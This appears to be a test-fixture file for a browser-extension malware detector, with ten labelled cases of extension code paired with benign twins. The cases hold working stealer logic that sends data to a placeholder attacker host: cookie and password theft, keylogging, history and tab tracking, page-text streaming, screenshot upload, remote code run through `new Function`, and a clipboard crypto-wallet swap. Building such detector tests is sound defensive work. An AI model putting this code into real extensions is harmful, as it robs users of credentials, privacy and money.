import { finding, flow, thief, type Fact, type Program } from '../case.ts';

interface Deed {
  readonly program: Program;
  readonly fact: Fact;
}

/** Ten deeds of malware in ordinary code; each twin reads the same for the user alone, and sends what it may. */
export const deeds: Readonly<Record<string, Deed>> = {
  'all cookies': {
    fact: flow('cookies'),
    program: {
      worker: `
const endpoint = 'https://${thief}/v2/jar';
const version = chrome.runtime.getManifest().version;
class Jar {
  kept = [];
  add(cookies) {
    for (const { name, value, domain } of cookies) this.kept.push({ name, value, domain });
  }
  async flush() {
    const { length } = this.kept;
    if (length === 0) return;
    const body = JSON.stringify({ version, «cookies: this.kept¦ready: true» });
    await fetch(endpoint, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    this.kept = [];
  }
}
async function collect() {
  const jar = new Jar();
  jar.add(await chrome.cookies.getAll({}));
  await jar.flush();
}
chrome.runtime.onInstalled.addListener(collect);
collect();
`,
    },
  },
  'cookie of the page': {
    fact: flow('cookies'),
    program: {
      content: {
        'content.js': `
const settings = { host: 'https://${thief}', path: '/p.gif' };
function pairs(text) {
  return text.split('; ').map((part) => {
    const [name, ...rest] = part.split('=');
    return { name, value: rest.join('=') };
  });
}
function report(data) {
  const image = new Image();
  image.src = settings.host + settings.path + '?d=' + encodeURIComponent(JSON.stringify(data));
}
const found = pairs(document.cookie).filter(({ value }) => value.length > 0);
document.title = document.title + ' (' + found.length + ')';
report({ at: location.hostname, «found¦language: navigator.language» });
`,
      },
    },
  },
  'keys that are typed': {
    fact: flow('key-input'),
    program: {
      content: {
        'content.js': `
let typed = '';
const limit = 12;
function flush() {
  if (typed.length === 0) return;
  chrome.runtime.sendMessage({ type: 'typed', «text: typed¦full: true» });
  typed = '';
}
document.addEventListener('keydown', (event) => {
  if (event.key === 'Shift') return;
  typed += event.key;
  if (typed.length >= limit) flush();
});
`,
      },
      worker: `
const server = 'https://${thief}/v1/keys';
async function post(data) {
  const answer = await fetch(server, { method: 'POST', body: JSON.stringify(data) });
  return answer.ok;
}
chrome.runtime.onMessage.addListener((message) => {
  switch (message.type) {
    case 'typed':
      post({ «text: message.text¦full: message.full», at: Date.now() });
      break;
    case 'ping':
      console.log('alive');
  }
});
`,
    },
  },
  'passwords of forms': {
    fact: flow('form-input'),
    program: {
      content: {
        'content.js': `
function send(data) {
  const request = new XMLHttpRequest();
  request.open('POST', 'https://${thief}/forms');
  request.setRequestHeader('content-type', 'application/json');
  request.send(JSON.stringify(data));
}
function watch(form) {
  form.addEventListener('submit', () => {
    const field = form.querySelector('input[type=password]');
    if (!field || !field.value) return;
    const entry = { site: location.hostname, «secret: field.value¦long: 'yes'» };
    send(entry);
  });
}
document.querySelectorAll('form').forEach(watch);
document.addEventListener('submit', () => {
  const fields = [...document.querySelectorAll('input')];
  const values = fields.map((field) => field.value);
  if (values.some((value) => value.length > 3)) send({ «values¦count: 3» });
});
`,
      },
    },
  },
  'browsing history': {
    fact: flow('history'),
    program: {
      worker: `
const api = { base: 'https://${thief}', paths: { visits: '/visits' } };
const day = 24 * 60 * 60 * 1000;
const visitsSince = (startTime) =>
  new Promise((resolve) => {
    chrome.history.search({ text: '', startTime, maxResults: 1000 }, (items) => resolve(items));
  });
async function upload() {
  const items = await visitsSince(Date.now() - 7 * day);
  const visits = items.map((item) => ({ url: item.url, title: item.title }));
  const url = \`\${api.base}\${api.paths.visits}\`;
  const options = { method: 'POST', body: JSON.stringify({ «visits¦days: 7» }) };
  try {
    await fetch(url, options);
  } catch (error) {
    console.error(error, visits.length);
  }
}
chrome.alarms.create('upload', { periodInMinutes: 60 });
chrome.alarms.onAlarm.addListener(({ name }) => {
  if (name === 'upload') upload();
});
upload();
`,
    },
  },
  'visited addresses': {
    fact: flow('tabs'),
    program: {
      worker: `
const queue = [];
const identity = 'u' + 77821;
async function drain() {
  while (queue.length > 0) {
    const entry = queue.shift();
    await fetch('https://${thief}/track', { method: 'POST', body: JSON.stringify({ identity, ...entry }) });
  }
}
function add(tab) {
  const { url, title } = tab;
  if (!url) return;
  queue.push({ «url, title¦kind: 'opened'» });
}
chrome.tabs.onUpdated.addListener((id, change, tab) => {
  if (change.status === 'complete') {
    add(tab);
    drain();
  }
});
chrome.tabs.query({}, (tabs) => {
  for (const tab of tabs) add(tab);
  drain();
});
`,
    },
  },
  'text of pages': {
    fact: flow('page-content'),
    program: {
      content: {
        'content.js': `
const socket = new WebSocket('wss://${thief}/live');
const state = { open: false, waiting: [] };
const push = (kind, data) => {
  const text = JSON.stringify({ kind, data });
  if (state.open) socket.send(text);
  else state.waiting.push(text);
};
socket.addEventListener('open', () => {
  state.open = true;
  state.waiting.forEach((text) => socket.send(text));
  state.waiting.length = 0;
});
function snapshot() {
  const text = document.body.innerText;
  if (text.length < 5) return;
  push('page', «{ address: location.href, text }¦{ size: 'large' }»);
}
snapshot();
`,
      },
    },
  },
  'code of a server': {
    fact: flow('network-response', 'code-execution'),
    program: {
      content: {
        'content.js': `
const source = 'https://${thief}/rules';
const retries = 3;
async function load(left) {
  try {
    const answer = await fetch(source);
    if (!answer.ok) throw new Error('not now');
    const code = await answer.text();
    «new Function(code)();¦document.title = code;»
  } catch (error) {
    if (left > 0) setTimeout(() => load(left - 1), 500);
  }
}
load(retries);
`,
      },
      manifest: {
        manifest_version: 2,
        content_security_policy: "script-src 'self' 'unsafe-eval'; object-src 'self'",
        permissions: ['<all_urls>'],
        host_permissions: undefined,
      },
    },
  },
  'pictures of tabs': {
    fact: flow('screenshot'),
    program: {
      worker: `
const target = new URL('/shots', 'https://${thief}');
const capture = () => chrome.tabs.captureVisibleTab();
function pack(picture) {
  const form = new FormData();
  form.append('name', 'tides');
  form.append('picture', «picture¦'none'»);
  return form;
}
async function shoot() {
  const picture = await capture();
  if (!picture) return;
  await fetch(target.href, { method: 'POST', body: pack(picture) });
}
chrome.tabs.onActivated.addListener(() => {
  shoot().catch(() => {});
});
shoot();
`,
    },
  },
  'copied addresses': {
    fact: finding('clipboard-address-swap', 'wallet-address-replaced'),
    program: {
      content: {
        'content.js': `
const wallets = { btc: 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh', eth: '0x71C7656EC7ab88b098defB751B7401B5f6d8976F' };
function kindOf(text) {
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) return 'eth';
  return /^bc1[a-z0-9]{20,60}$/.test(text) ? 'btc' : undefined;
}
document.addEventListener('copy', (event) => {
  const text = String(getSelection()).trim();
  const kind = kindOf(text);
  if (!kind) return;
  event.clipboardData.setData('text/plain', «wallets[kind]¦text»);
  event.preventDefault();
});
`,
      },
    },
  },
};
